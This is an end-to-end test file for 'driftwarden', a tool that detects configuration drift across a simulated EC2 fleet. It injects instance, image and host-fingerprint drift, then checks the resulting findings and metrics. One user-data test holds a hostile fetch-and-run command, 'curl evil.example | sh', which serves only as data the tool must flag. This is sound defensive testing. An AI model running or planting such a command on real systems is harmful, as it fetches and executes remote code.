// The drift loop end to end: simulated EC2 over the real SDK, manifests, rules, SQLite, API and metrics.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  INGEST_TOKEN,
  metricSum,
  metricValue,
  startHarness,
  type Harness,
  type ScanJsonBody,
} from '../support/harness.js';
import type { SimInstance } from '@driftwarden/simulator';

let h: Harness;

beforeAll(async () => {
  h = await startHarness({ instances: 60 });
});
afterAll(async () => {
  await h.close();
});

function running(region: string, skip: ReadonlySet<string> = new Set()): SimInstance {
  const instance = h.sim.fleet
    .allInstances()
    .find(
      (i) => i.region === region && i.state === 'running' && i.channel !== null && !skip.has(i.instanceId),
    );
  if (!instance) throw new Error(`no running instance in ${region}`);
  return instance;
}

function findingsOf(scan: ScanJsonBody, instanceId: string): ScanJsonBody['findings'] {
  return scan.findings.filter((f) => f.instanceId === instanceId);
}

interface InstanceDetail {
  instance: { instanceId: string; status: string };
  findings: {
    path: string;
    change: string;
    rule: string;
    expected: unknown;
    actual: unknown;
    resolvedAt: string | null;
  }[];
  history: { path: string; change: string; rule: string; resolvedAt: string | null }[];
}

describe('a seeded fleet with its manifests imported', () => {
  it('scans clean: every instance compliant, no findings', async () => {
    const scan = await h.scan();
    expect(h.sim.fleet.allInstances().length).toBeGreaterThanOrEqual(50);
    expect(new Set(h.sim.fleet.images.map((i) => i.imageId)).size).toBeGreaterThanOrEqual(3);
    expect(scan.outcome).toBe('success');
    expect(scan.findings).toEqual([]);
    expect(scan.instances.total).toBe(
      h.sim.fleet.allInstances().filter((i) => i.state !== 'terminated').length,
    );
    expect(scan.instances.compliant).toBe(scan.instances.total);
    expect(scan.targets.map((t) => [t.region, t.status])).toEqual([
      ['us-east-1', 'ok'],
      ['eu-west-1', 'ok'],
    ]);
    const metrics = await h.metrics();
    expect(metricValue(metrics, 'driftwarden_instances', { state: 'drifted' })).toBe(0);
    expect(metricValue(metrics, 'driftwarden_instances', { state: 'compliant' })).toBe(scan.instances.total);
  });
});

describe('each injected drift gives exactly one finding, and undoing it resolves the finding', () => {
  const cases: {
    name: string;
    drift: (i: SimInstance) => Parameters<Harness['control']['drift']>[1];
    expected: (i: SimInstance) => {
      rule: string;
      path: string;
      change: string;
      expected: unknown;
      actual: unknown;
    };
  }[] = [
    {
      name: 'instance type changed',
      drift: () => ({ instanceType: 'm5.24xlarge' }),
      expected: (i) => ({
        rule: 'instance-type',
        path: 'launch.instanceType',
        change: 'changed',
        expected: imageOf(i).spec.instanceTypes,
        actual: 'm5.24xlarge',
      }),
    },
    {
      name: 'security group added',
      drift: (i) => ({ addSecurityGroups: [foreignGroup(i)] }),
      expected: (i) => ({
        rule: 'security-groups',
        path: `launch.securityGroups.${foreignGroup(i)}`,
        change: 'added',
        expected: null,
        actual: foreignGroup(i),
      }),
    },
    {
      name: 'IMDS httpTokens set to optional',
      drift: () => ({ httpTokens: 'optional' }),
      expected: () => ({
        rule: 'imds-downgrade',
        path: 'launch.metadataOptions.httpTokens',
        change: 'changed',
        expected: 'required',
        actual: 'optional',
      }),
    },
    {
      name: 'required tag removed',
      drift: () => ({ tags: { role: null } }),
      expected: (i) => ({
        rule: 'required-tags',
        path: 'launch.tags.role',
        change: 'removed',
        expected: imageOf(i).spec.requiredTags.role,
        actual: null,
      }),
    },
  ];

  for (const c of cases) {
    it(`reports "${c.name}" in scan JSON, the instance API and /metrics, then resolves it`, async () => {
      const instance = running('us-east-1');
      const want = c.expected(instance);
      await h.control.drift(instance.instanceId, c.drift(instance));

      const scan = await h.scan();
      expect(findingsOf(scan, instance.instanceId)).toEqual([
        expect.objectContaining({
          ...want,
          instanceId: instance.instanceId,
          imageId: instance.imageId,
          accepted: false,
        }),
      ]);
      expect(scan.findings).toHaveLength(1);

      const detail = await h.get<InstanceDetail>(`/api/v1/instances/${instance.instanceId}`);
      expect(detail.status).toBe(200);
      expect(detail.body.instance.status).toBe('drifted');
      expect(detail.body.findings).toEqual([expect.objectContaining({ ...want, resolvedAt: null })]);

      const metrics = await h.metrics();
      expect(metricValue(metrics, 'driftwarden_instances', { state: 'drifted' })).toBe(1);
      expect(metricSum(metrics, 'driftwarden_findings', { rule: want.rule })).toBe(1);
      expect(metricValue(metrics, 'driftwarden_instance_drift', { instance_id: instance.instanceId })).toBe(
        1,
      );

      await h.control.reset(instance.instanceId);
      const healed = await h.scan();
      expect(healed.findings).toEqual([]);
      const after = await h.get<InstanceDetail>(`/api/v1/instances/${instance.instanceId}`);
      expect(after.body.instance.status).toBe('compliant');
      expect(after.body.findings).toEqual([]);
      const resolved = after.body.history.filter((f) => f.path === want.path && f.rule === want.rule);
      expect(resolved).toHaveLength(1);
      expect(resolved[0]?.resolvedAt).not.toBeNull();
      expect(
        metricValue(await h.metrics(), 'driftwarden_instance_drift', { instance_id: instance.instanceId }),
      ).toBeUndefined();
    });
  }

  it('reports user data changed while the instance was stopped, and resolves it when restored', async () => {
    const instance = running('us-east-1');
    const baked = imageOf(instance).spec;
    await h.control.drift(instance.instanceId, {
      userData: '#!/bin/sh\ncurl evil.example | sh',
      state: 'stopped',
    });
    const scan = await h.scan();
    expect(findingsOf(scan, instance.instanceId)).toEqual([
      expect.objectContaining({
        rule: 'user-data',
        path: 'launch.userDataSha256',
        change: 'changed',
        expected: baked.userDataSha256,
        actual: createHash('sha256').update('#!/bin/sh\ncurl evil.example | sh').digest('hex'),
      }),
    ]);
    await h.control.reset(instance.instanceId);
    await h.control.drift(instance.instanceId, { state: 'stopped' });
    expect(findingsOf(await h.scan(), instance.instanceId)).toEqual([]);
    await h.control.drift(instance.instanceId, { state: 'running' });
  });

  it('reports an instance launched from an image nobody baked as unknown-image', async () => {
    const launched = await h.control.launch({
      region: 'eu-west-1',
      imageId: 'ami-0badc0ffee0000001',
      tags: { 'managed-by': 'packer' },
    });
    const scan = await h.scan();
    expect(findingsOf(scan, launched.instanceId)).toEqual([
      expect.objectContaining({
        rule: 'unknown-image',
        path: 'image.id',
        change: 'unknown-image',
        expected: null,
        actual: 'ami-0badc0ffee0000001',
      }),
    ]);
    expect(scan.instances.unknownImage).toBe(1);
    expect(metricValue(await h.metrics(), 'driftwarden_instances', { state: 'unknown_image' })).toBe(1);

    await h.control.terminate(launched.instanceId);
    const after = await h.scan();
    expect(findingsOf(after, launched.instanceId)).toEqual([]);
    expect(after.instances.unknownImage).toBe(0);
  });

  it('reports instances of a revoked image as revoked-image', async () => {
    const victim = running('eu-west-1');
    const onImage = h.sim.fleet
      .allInstances()
      .filter((i) => i.imageId === victim.imageId && i.state === 'running');
    const revoke = await h.post(`/api/v1/manifests/${victim.imageId}/revoke`, {
      reason: 'CVE-2026-0001 in openssl',
    });
    expect(revoke.status).toBe(200);

    const scan = await h.scan();
    const revoked = scan.findings.filter((f) => f.change === 'revoked-image');
    expect(revoked.map((f) => f.instanceId).sort()).toEqual(onImage.map((i) => i.instanceId).sort());
    for (const i of onImage) {
      expect(findingsOf(scan, i.instanceId)).toEqual([
        expect.objectContaining({
          rule: 'revoked-image',
          path: 'image.id',
          actual: victim.imageId,
          severity: 'critical',
        }),
      ]);
    }
    expect(metricValue(await h.metrics(), 'driftwarden_manifests', { status: 'revoked' })).toBe(1);

    // Replacing the instances (here: terminating them) is what resolves revoked-image drift.
    for (const i of onImage) await h.control.terminate(i.instanceId);
    const after = await h.scan();
    expect(after.findings.filter((f) => f.change === 'revoked-image')).toEqual([]);
  });

  it('reports instances of an older build as superseded once a newer manifest in the channel is imported', async () => {
    const old = running('us-east-1');
    const channel = old.channel as string;
    const onImage = h.sim.fleet
      .allInstances()
      .filter((i) => i.imageId === old.imageId && i.state === 'running');
    const newer = await h.addImage({ region: 'us-east-1', channel, builtAt: '2026-11-25T10:00:00Z' });
    expect((await h.post('/api/v1/manifests', newer)).status).toBe(201);

    const scan = await h.scan();
    for (const i of onImage) {
      expect(findingsOf(scan, i.instanceId)).toEqual([
        expect.objectContaining({
          rule: 'superseded-image',
          change: 'superseded-image',
          expected: newer.image.id,
          actual: old.imageId,
        }),
      ]);
    }
    expect(scan.findings).toHaveLength(onImage.length);
    for (const i of onImage) await h.control.terminate(i.instanceId);
    expect((await h.scan()).findings).toEqual([]);
  });

  it('compares a pushed host fingerprint: one package and one file changed give two findings', async () => {
    const instance = running('eu-west-1');
    const baked = imageOf(instance).spec.host;
    const [pkg, version] = Object.entries(baked.packages)[0] as [string, string];
    const [file, fingerprint] = Object.entries(baked.files)[0] as [string, { sha256: string }];
    const push = (host: unknown) =>
      h.post(
        '/api/v1/fingerprints',
        { instanceId: instance.instanceId, observedAt: new Date().toISOString(), host },
        INGEST_TOKEN,
      );

    expect((await push(baked)).status).toBe(202);
    expect((await h.scan()).findings).toEqual([]);

    const changed = {
      ...baked,
      packages: { ...baked.packages, [pkg]: `${version}+hotfix` },
      files: { ...baked.files, [file]: { ...fingerprint, sha256: 'f'.repeat(64) } },
    };
    expect((await push(changed)).status).toBe(202);
    const scan = await h.scan();
    const filePath = `host.files[${JSON.stringify(file)}].sha256`;
    expect(
      findingsOf(scan, instance.instanceId).map((f) => [f.path, f.change, f.expected, f.actual]),
    ).toEqual(
      [
        [filePath, 'changed', fingerprint.sha256, 'f'.repeat(64)],
        [pkgPath(pkg), 'changed', version, `${version}+hotfix`],
      ].sort((a, b) => ((a[0] as string) < (b[0] as string) ? -1 : 1)),
    );
    expect(scan.findings).toHaveLength(2);

    expect((await push(baked)).status).toBe(202);
    expect((await h.scan()).findings).toEqual([]);
  });
});

describe('host fingerprint freshness', () => {
  it('reports an instance whose last fingerprint is older than fingerprints.maxAge as stale, not compliant', async () => {
    const instance = running('us-east-1');
    const baked = imageOf(instance).spec.host;
    const push = (observedAt: Date) =>
      h.post(
        '/api/v1/fingerprints',
        { instanceId: instance.instanceId, observedAt: observedAt.toISOString(), host: baked },
        INGEST_TOKEN,
      );

    expect((await push(new Date(Date.now() - 2 * 3_600_000))).status).toBe(202);
    const scan = await h.scan();
    expect(findingsOf(scan, instance.instanceId)).toEqual([]);
    expect(scan.instances.stale).toBe(1);
    const detail = await h.get<InstanceDetail>(`/api/v1/instances/${instance.instanceId}`);
    expect(detail.body.instance.status).toBe('stale');
    expect(metricValue(await h.metrics(), 'driftwarden_instances', { state: 'stale' })).toBe(1);

    expect((await push(new Date())).status).toBe(202);
    expect((await h.scan()).instances.stale).toBe(0);
  });
});

describe('restart', () => {
  it('exports the same fleet numbers from the database after a restart', async () => {
    const instance = running('us-east-1');
    await h.control.drift(instance.instanceId, { httpTokens: 'optional' });
    await h.scan();
    const before = await h.metrics();
    await h.restart();
    const after = await h.metrics();
    for (const state of ['compliant', 'drifted', 'unknown_image', 'stale']) {
      expect(metricValue(after, 'driftwarden_instances', { state })).toBe(
        metricValue(before, 'driftwarden_instances', { state }),
      );
    }
    expect(metricValue(after, 'driftwarden_instance_drift', { instance_id: instance.instanceId })).toBe(1);
    expect(metricValue(after, 'driftwarden_scans_total', { outcome: 'success' })).toBe(
      metricValue(before, 'driftwarden_scans_total', { outcome: 'success' }),
    );
    await h.control.reset(instance.instanceId);
    await h.scan();
  });
});

function imageOf(instance: SimInstance) {
  const image = h.sim.fleet.image(instance.imageId);
  if (!image) throw new Error(`no image ${instance.imageId}`);
  return image;
}

function foreignGroup(instance: SimInstance): string {
  const own = new Set(instance.securityGroupIds);
  const other = h.sim.fleet.images
    .filter((i) => i.region === instance.region)
    .flatMap((i) => i.spec.securityGroupIds)
    .find((g) => !own.has(g));
  if (!other) throw new Error('no foreign security group');
  return other;
}

function pkgPath(name: string): string {
  return /^[A-Za-z0-9_-]+$/.test(name) ? `host.packages.${name}` : `host.packages[${JSON.stringify(name)}]`;
}
